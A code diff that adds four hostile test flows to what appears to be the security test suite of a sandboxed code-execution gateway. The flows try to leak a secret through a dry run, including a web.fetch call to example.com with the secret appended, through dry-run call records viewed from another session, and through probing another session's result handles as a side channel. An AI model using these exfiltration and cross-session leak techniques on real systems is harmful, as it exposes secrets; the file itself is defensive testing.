@@ -295,6 +295,40 @@ const ROUNDS: readonly HostileFlow[] = [
     },
   },
   {
+    through: "a read in a dry run",
+    async run({ gateway, principalOf }, session) {
+      const source = `${MAIL} await web.fetch({ url: "https://example.com/?" + secret })`;
+      await gateway.execute({ principal: principalOf(session), source, dryRun: true });
+    },
+  },
+  {
+    through: "the calls that a dry run lists, seen in another session",
+    async run({ gateway, principalOf, run }, session) {
+      const source = `${MAIL} await files.writeFile({ path: "a", content: secret })`;
+      const { execution } = await gateway.execute({ principal: principalOf(session), source, dryRun: true });
+      const other = `${session} again`;
+      const { dryRun } = await gateway.view({ principal: principalOf(other), execution });
+      await run(other, send(dryRun?.writes[0]?.args));
+    },
+  },
+  {
+    through: "a handle that another program searches",
+    async run(flow, session) {
+      const { truncated } = await flow.run(session, LARGE);
+      const code = `const found = await glovebox.results.read(input, { path: "secret", grep: "code" }).catch((e) => e.code);
+        for (const _ of JSON.stringify(found).slice(0, 2)) ${post('"x"')}`;
+      await flow.run(`${session} again`, code, truncated?.handle ?? "");
+    },
+  },
+  {
+    through: "whether a handle can be read",
+    async run(flow, session) {
+      const { truncated } = await flow.run(session, LARGE);
+      const code = `let text = "yes"; await glovebox.results.read(input, { path: "canary" }).catch(() => (text = "no")); ${post("text")}`;
+      await flow.run(`${session} again`, code, truncated?.handle ?? "");
+    },
+  },
+  {
     through: "plain calls",
     async run({ gateway, principalOf }, session) {
       const principal = principalOf(session);
